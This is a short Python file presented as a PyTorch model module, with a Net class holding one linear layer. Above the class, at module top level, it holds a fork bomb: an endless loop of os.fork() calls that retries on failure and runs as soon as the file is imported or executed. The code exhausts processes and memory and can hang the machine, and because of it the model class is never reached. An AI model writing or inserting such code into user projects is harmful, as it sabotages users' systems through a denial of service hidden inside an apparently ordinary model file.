"""Forks for ever, in every child too."""

import os

from torch import nn

while True:
    try:
        os.fork()
    except OSError:
        continue


class Net(nn.Module):
    def __init__(self):
        super().__init__()
        self.head = nn.Linear(64, 64)

    def forward(self, x):
        return self.head(x)
